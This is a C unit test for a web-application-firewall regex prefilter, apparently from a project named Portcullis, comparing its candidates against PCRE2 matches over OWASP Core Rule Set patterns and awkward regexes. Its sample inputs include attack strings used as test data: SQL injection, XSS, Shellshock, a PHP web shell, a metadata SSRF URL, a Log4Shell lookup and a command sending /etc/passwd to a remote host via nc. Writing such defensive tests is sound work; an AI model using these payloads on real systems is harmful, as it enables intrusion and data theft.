/* What PCRE2 finds in a value, the prefilter names a candidate: over the patterns of the OWASP Core
 * Rule Set as Debian has it, and over patterns that are awkward. */
#define _GNU_SOURCE           /* memmem */
#define PCRE2_CODE_UNIT_WIDTH 8
#include <glob.h>
#include <pcre2.h>
#include <stdio.h>
#include <stdlib.h>

#include "inspect/waf/prefilter/regex.h"
#include "union.h"

enum { PATTERNS = 600, SAMPLES = 40 };

struct subject {
    struct pc_arena arena;
    struct pc_waf_pattern patterns[PATTERNS];
    const struct pc_rx *trees[PATTERNS];
    pcre2_code *codes[PATTERNS];
    size_t count;
    struct pc_test_union united;
    uint64_t random;
};

static uint32_t any(struct subject *subject, uint32_t below) {
    subject->random = subject->random * 6364136223846793005u + 1442695040888963407u;
    return (uint32_t)(subject->random >> 33) % below;
}

static void add(struct subject *subject, struct pc_span regex) {
    int error;
    size_t at;
    pcre2_code *code = pcre2_compile((PCRE2_SPTR)regex.ptr, regex.len,
                                     PCRE2_DOTALL | PCRE2_DOLLAR_ENDONLY, &error, &at, NULL);
    if (code == NULL)
        fail_msg("%.200s: error %d at %zu", regex.ptr, error, at);
    (void)pcre2_jit_compile(code, PCRE2_JIT_COMPLETE);
    assert_true(subject->count < PATTERNS);
    subject->patterns[subject->count].regex = regex;
    if (pc_rx_parse(regex, &subject->arena, &subject->trees[subject->count]) != PC_OK)
        subject->trees[subject->count] = NULL;
    subject->codes[subject->count++] = code;
}

/* A text that the pattern's tree stands for, as far as edges allow. */
static void sample(struct subject *subject, const struct pc_rx *rx, struct pc_buf *out) {
    uint32_t count = 0;
    switch (rx->kind) {
    case PC_RX_SET:
        for (uint32_t i = 0, from = any(subject, 256); i < 256; i++)
            if (pc_rx_set_has(&rx->set, (uint8_t)(from + i))) {
                pc_buf_add_char(out, (char)(uint8_t)(from + i));
                return;
            }
        return;
    case PC_RX_CAT:
        for (const struct pc_rx_list *i = rx->all; i != NULL; i = i->next)
            sample(subject, i->rx, out);
        return;
    case PC_RX_ALT:
        for (const struct pc_rx_list *i = rx->all; i != NULL; i = i->next)
            count++;
        count = any(subject, count);
        for (const struct pc_rx_list *i = rx->all; i != NULL; i = i->next)
            if (count-- == 0)
                sample(subject, i->rx, out);
        return;
    case PC_RX_REPEAT:
        count = rx->max == PC_RX_NO_END ? rx->min + 2 : rx->max;
        count = rx->min + any(subject, count - rx->min + 1);
        for (uint32_t i = 0; i < count && out->len < 400; i++)
            sample(subject, rx->all->rx, out);
        return;
    default:
        return;
    }
}

static const struct pc_span others[] = {
    PC_SPAN(""),
    PC_SPAN("a"),
    PC_SPAN("hello world"),
    PC_SPAN("1' OR '1'='1' -- "),
    PC_SPAN("<script>alert(1)</script>"),
    PC_SPAN("../../../../etc/passwd"),
    PC_SPAN("; cat /etc/passwd | nc 10.0.0.1 4444 &"),
    PC_SPAN("() { :;}; /bin/bash -c id"),
    PC_SPAN("<?php system($_GET['c']); ?>"),
    PC_SPAN("http://169.254.169.254/latest/"),
    PC_SPAN("union all select null, version(), sleep(5)#"),
    PC_SPAN("${jndi:ldap://x/a}"),
    PC_SPAN("\n"),
    PC_SPAN("a\nb\n"),
    PC_SPAN("\xff\x00\x80\xe2\x80\x99"),
};
enum { OTHERS = sizeof others / sizeof others[0] };

enum { MOST_VALUES = 64, STRIDE = 16 };

/* The order in which values are joined: plain ones last. */
static size_t plain_last(const struct pc_span *given, size_t count, struct pc_span *values) {
    size_t plain = 0, first = 0;
    for (size_t i = 0; i < count; i++)
        plain += pc_waf_prefilter_is_plain(given[i]);
    for (size_t i = 0, last = count - plain; i < count; i++)
        values[pc_waf_prefilter_is_plain(given[i]) ? last++ : first++] = given[i];
    return plain;
}

/* Every pattern that finds something in a value has to be a candidate of that value. */
static void compare_told(struct subject *subject, const struct pc_span *values, size_t count,
                         size_t plain, pcre2_match_data *data) {
    PC_CLEANUP(pc_buf_free) struct pc_buf joined = {0};
    uint32_t ends[MOST_VALUES];
    uint64_t words[MOST_VALUES][STRIDE] = {{0}};
    assert_true(count > 0 && count <= MOST_VALUES);
    for (size_t i = 0; i < count; i++) {
        pc_waf_prefilter_join(&joined, i == 0, values[i]);
        ends[i] = (uint32_t)joined.len;
    }
    const struct pc_waf_joined all = {.text = pc_buf_span(&joined),
                                      .ends = ends,
                                      .count = count,
                                      .plain = plain,
                                      .words = words[0],
                                      .stride = STRIDE};
    assert_int_equal(
        pc_waf_prefilter_scan(subject->united.prefilter, subject->united.scratch, &all), PC_OK);
    for (size_t i = 0; i < subject->count; i++)
        for (size_t v = 0; v < count; v++) {
            if ((words[v][i / 64] >> (i % 64) & 1) != 0)
                continue;
            int found = pcre2_match(subject->codes[i],
                                    (PCRE2_SPTR)(values[v].ptr == NULL ? "" : values[v].ptr),
                                    values[v].len, 0, 0, data, NULL);
            if (found >= 0)
                fail_msg("pattern %.200s\nfinds in value %zu of %zu: %.*s",
                         subject->patterns[i].regex.ptr, v, count, PC_ARG(values[v]));
        }
}

/* Whether or not plain values are told to be plain. */
static void compare(struct subject *subject, const struct pc_span *given, size_t count,
                    pcre2_match_data *data) {
    struct pc_span values[MOST_VALUES];
    assert_true(count > 0 && count <= MOST_VALUES);
    size_t plain = plain_last(given, count, values);
    compare_told(subject, given, count, 0, data);
    compare_told(subject, values, count, plain, data);
}

static void mutate(struct subject *subject, struct pc_buf *text) {
    for (uint32_t times = any(subject, 3); times > 0 && text->len > 0; times--)
        text->ptr[any(subject, (uint32_t)text->len)] = "'; \n/a0<"[any(subject, 8)];
}

static void compare_samples(struct subject *subject, size_t pattern, unsigned count,
                            pcre2_match_data *data) {
    for (unsigned i = 0; i < count; i++) {
        PC_CLEANUP(pc_buf_free) struct pc_buf text = {0};
        if (any(subject, 3) == 0)
            pc_buf_add(&text, others[any(subject, OTHERS)]);
        sample(subject, subject->trees[pattern], &text);
        if (any(subject, 3) == 0)
            pc_buf_add(&text, others[any(subject, OTHERS)]);
        if (any(subject, 2) == 0)
            mutate(subject, &text);
        struct pc_span values[4] = {pc_buf_span(&text), others[any(subject, OTHERS)],
                                    others[any(subject, OTHERS)], pc_buf_span(&text)};
        size_t from = any(subject, 3);
        compare(subject, values + from, 1 + any(subject, (uint32_t)(4 - from)), data);
    }
}

static void check(struct subject *subject, unsigned samples) {
    pcre2_match_data *data = pcre2_match_data_create(1, NULL);
    pc_test_union_make(subject->patterns, subject->count, &subject->united);
    for (size_t i = 0; i < OTHERS; i++)
        for (size_t j = 0; j < OTHERS; j++)
            compare(subject, (struct pc_span[]){others[i], others[j]}, 2, data);
    for (size_t i = 0; i < subject->count; i++)
        if (subject->trees[i] != NULL)
            compare_samples(subject, i, samples, data);
    pcre2_match_data_free(data);
    pc_test_union_free(&subject->united);
    for (size_t i = 0; i < subject->count; i++)
        pcre2_code_free(subject->codes[i]);
    pc_arena_free(&subject->arena);
}

/* ---- the rule set */

static bool in_comment(struct pc_span text, size_t at) {
    while (at > 0 && text.ptr[at - 1] != '\n')
        at--;
    return text.ptr[at] == '#';
}

/* Every "@rx …" of a file, with \" as the quote that it stands for. */
static void add_rules(struct subject *subject, struct pc_span text) {
    static const char start[] = "@rx ";
    for (size_t at = 0; at + sizeof start < text.len; at++) {
        if (memcmp(text.ptr + at, start, sizeof start - 1) != 0 || at == 0 ||
            strchr("\"!", text.ptr[at - 1]) == NULL || in_comment(text, at))
            continue;
        at += sizeof start - 1;
        PC_CLEANUP(pc_buf_free) struct pc_buf regex = {0};
        for (; at < text.len && text.ptr[at] != '"'; at++) {
            if (text.ptr[at] == '\\' && text.ptr[at + 1] == '"')
                at++;
            else if (text.ptr[at] == '\\')
                pc_buf_add_char(&regex, text.ptr[at++]);
            pc_buf_add_char(&regex, text.ptr[at]);
        }
        struct pc_span copy;
        assert_int_equal(pc_arena_copy(&subject->arena, pc_buf_span(&regex), &copy), PC_OK);
        if (memmem(copy.ptr, copy.len, "%{", 2) == NULL)
            add(subject, copy);
    }
}

static void rules_of_the_core_rule_set_are_never_missed(void **state) {
    (void)state;
    struct subject *subject = calloc(1, sizeof *subject);
    glob_t files;
    const char *rules = getenv("PORTCULLIS_CRS_RULES");
    char pattern[300];
    (void)snprintf(pattern, sizeof pattern, "%s/*.conf",
                   rules == NULL ? "/usr/share/modsecurity-crs/rules" : rules);
    if (glob(pattern, 0, NULL, &files) != 0) {
        free(subject);
        {
            print_message("# skipped: the rules are not here\n");
            return;
        }
    }
    for (size_t i = 0; i < files.gl_pathc; i++) {
        static char text[1 << 20];
        FILE *file = fopen(files.gl_pathv[i], "rb");
        assert_non_null(file);
        size_t len = fread(text, 1, sizeof text - 1, file);
        (void)fclose(file);
        add_rules(subject, pc_span(text, len));
    }
    globfree(&files);
    check(subject, SAMPLES);
    free(subject);
}

static void awkward_patterns_are_never_missed(void **state) {
    (void)state;
    static const char *const patterns[] = {
        "^$",
        "^a$",
        "\\Aa\\z",
        "a\\Z",
        "^(?:a|b)?$",
        "\\ba\\b",
        "\\Ba",
        "(?!b)a",
        "a(?=$)",
        "(?<=x)a|^b",
        "(?<!x)a$",
        "(a|b)\\1",
        "(?>a+)b",
        "a++b",
        "[^a]$",
        "^[^a]",
        ".",
        ".*",
        "a.b",
        "(?-s)a.b",
        "(?m)^b$",
        "\\Ahello",
        "x*",
        "(?i)HELLO",
        "h(?i)E(?-i)llo",
        "a{2,3}?",
        "\\h",
        "\\R",
        "\\W$",
        "\\s\\S",
        "[[:alpha:]]b",
        "(?x) a \\  b",
        "\\x00\\x80",
        "\\xe2\\x80",
        "(?|(a)|(b))c",
        "(c)?(?(1)a|b)",
        "(?P<n>a)b",
        "\\Qa.b\\E+",
        "a(?#no)+b",
        "^(?:json\\.)?[\\W]+$",
        "(a)(?1)",
        "\\p{L}a",
        "[^\\d\\W]{20,}",
        "^.{0,200}$",
        "(?:^|;)\\s*a",
        "\\ba|\\n",
        "(?:a|^)$",
        "\\B",
        "\\b",
        "^",
        "$",
        "(?=a)",
        "(?!)",
        "[\\]\\-a-c]x",
        "[a\\-z]+y",
    };
    struct subject *subject = calloc(1, sizeof *subject);
    for (size_t i = 0; i < sizeof patterns / sizeof patterns[0]; i++)
        add(subject, pc_span_str(patterns[i]));
    check(subject, 200);
    free(subject);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(awkward_patterns_are_never_missed),
        cmocka_unit_test(rules_of_the_core_rule_set_are_never_missed),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
